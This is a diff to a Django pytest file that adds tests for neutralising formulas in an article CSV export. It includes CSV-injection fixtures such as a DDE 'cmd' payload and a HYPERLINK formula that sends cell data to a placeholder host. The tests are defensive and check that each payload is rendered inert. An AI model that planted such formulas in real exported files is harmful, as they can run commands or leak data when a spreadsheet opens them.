@@ -3,7 +3,10 @@ import io
 import json
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from articles.exports import COLUMNS, csv_lines
 from articles.models import Article
 from tests.factories import at, make_article
 
@@ -13,6 +16,13 @@ pytestmark = pytest.mark.django_db
 def body(response):
     assert response.status_code == 200
     return b"".join(response.streaming_content).decode()
+
+
+def csv_rows(response):
+    """The CSV's rows as a spreadsheet reads them: UTF-8 with its byte order mark."""
+    text = body(response)
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
 
 
 @pytest.fixture
@@ -26,7 +36,8 @@ def archive():
 def test_csv_export_follows_the_list_filters(client, archive):
     response = client.get("/articles/export.csv?region=kurdistan-region")
     assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(body(response))))
+    header, *cells = csv_rows(response)
+    rows = [dict(zip(header, row, strict=True)) for row in cells]
     assert [row["headline"] for row in rows] == ["Erbil story"]
     assert rows[0]["bylines"] == "A; B"
     assert rows[0]["regions"] == "erbil-city"
@@ -47,7 +58,7 @@ def test_export_never_includes_unpublished_work(client, archive):
 
 def test_export_of_an_empty_result_is_valid(client):
     assert json.loads(body(client.get("/articles/export.json")))["articles"] == []
-    assert body(client.get("/articles/export.csv")).startswith("id,url,headline")
+    assert body(client.get("/articles/export.csv")).startswith('\ufeff"id","url","headline"')
 
 
 def test_export_with_a_bad_filter_is_a_400_with_the_reason(client):
@@ -62,3 +73,94 @@ def test_export_streams_and_queries_per_chunk_not_per_row(client, django_assert_
     with django_assert_max_num_queries(8):
         rows = body(client.get("/articles/export.csv")).strip().splitlines()
     assert len(rows) == 31
+
+
+# --- Formulas (CSV injection) -----------------------------------------------------------
+
+FORMULA_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+# Spaces, controls and direction marks a spreadsheet may skip before a formula sign.
+INVISIBLE = " \t\r\n\x0b\x0c\u00a0\u200b\u200e\u200f\u061c\ufeff\u2028"
+
+
+def spreadsheet_would_evaluate(cell):
+    """Whether a spreadsheet could take `cell` as a formula: it starts with a sign, a
+    tab, CR or LF, or with a sign after invisible characters. An apostrophe first
+    makes any cell text."""
+    if not cell or cell.startswith("'"):
+        return False
+    visible = cell.lstrip(INVISIBLE)
+    return cell[0] in FORMULA_SIGNS + "\t\r\n" or bool(visible) and visible[0] in FORMULA_SIGNS
+
+
+def test_csv_export_neutralises_formulas_in_every_column(client):
+    from articles.models import Region
+
+    Region.objects.filter(slug="erbil-city").update(name="=cmd|' /C calc'!A0")
+    article = make_article(
+        '=HYPERLINK("http://example.invalid/?x="&A1,"Sources")',
+        summary="@SUM(1+1)",
+        source="+Wire",
+        bylines=["-2+3", "\u200f=1+1"],
+        tags=["Oil"],
+        dateline="erbil-city",
+        published_at=at("2020-03-09 12:00"),
+    )
+    header, row = csv_rows(client.get("/articles/export.csv"))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["headline"] == "'" + article.headline
+    assert cells["summary"] == "'@SUM(1+1)"
+    assert cells["source"] == "'+Wire"
+    assert cells["bylines"] == "'-2+3; \u200f=1+1"
+    assert cells["dateline"] == "'=cmd|' /C calc'!A0"
+    assert not any(spreadsheet_would_evaluate(cell) for cell in header + row)
+
+
+def test_csv_quotes_every_cell_so_no_separator_starts_a_new_one(client):
+    # Opened where ";" separates cells, an unquoted "a;=1+1" would become "a" and "=1+1".
+    make_article("Oil;=1+1", summary="Basra,@SUM(1)", source="Wire\t=2", bare=True)
+    lines = body(client.get("/articles/export.csv")).removeprefix("\ufeff").splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
+    assert '"Oil;=1+1"' in lines[1]
+
+
+def test_json_export_keeps_the_exact_text(client):
+    make_article("=1+1", summary="@SUM(1+1)", source="+Wire", bylines=["-Agency"])
+    (row,) = json.loads(body(client.get("/articles/export.json")))["articles"]
+    assert (row["headline"], row["summary"], row["source"]) == ("=1+1", "@SUM(1+1)", "+Wire")
+    assert row["bylines"] == ["-Agency"]
+
+
+def test_csv_export_keeps_arabic_script_readable(client):
+    make_article("مقتل جنديين في أربيل", arabic=True)
+    text = body(client.get("/articles/export.csv"))
+    assert text.startswith("\ufeff")  # spreadsheets then read the file as UTF-8
+    (row,) = csv_rows(client.get("/articles/export.csv"))[1:]
+    assert "مقتل جنديين في أربيل" in row
+
+
+hostile_text = st.tuples(
+    st.sampled_from(["", *FORMULA_SIGNS, "\t", "\r", "\n", " =", "\u200f@", "\u061c+", "'"]),
+    st.text(
+        alphabet=st.one_of(
+            st.sampled_from("=+-@\"';,\t\r\n \u200f\u200e\u061c\ufeff"),
+            st.characters(min_codepoint=0x600, max_codepoint=0x6FF),  # Arabic script
+            st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
+        ),
+        max_size=30,
+    ),
+).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(texts=st.lists(hostile_text, min_size=len(COLUMNS), max_size=len(COLUMNS)))
+def test_any_cell_round_trips_as_text_no_spreadsheet_evaluates(texts):
+    row = dict(zip(COLUMNS, texts, strict=True))
+    row["tags"] = [texts[-1], texts[0]]  # lists are joined with "; "
+    text = "".join(csv_lines([row]))
+    assert text.startswith("\ufeff")
+    header, cells = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    assert header == COLUMNS
+    originals = [*texts[:-1], f"{texts[-1]}; {texts[0]}"]
+    for cell, original in zip(cells, originals, strict=True):
+        assert not spreadsheet_would_evaluate(cell)
+        assert cell in (original, "'" + original)
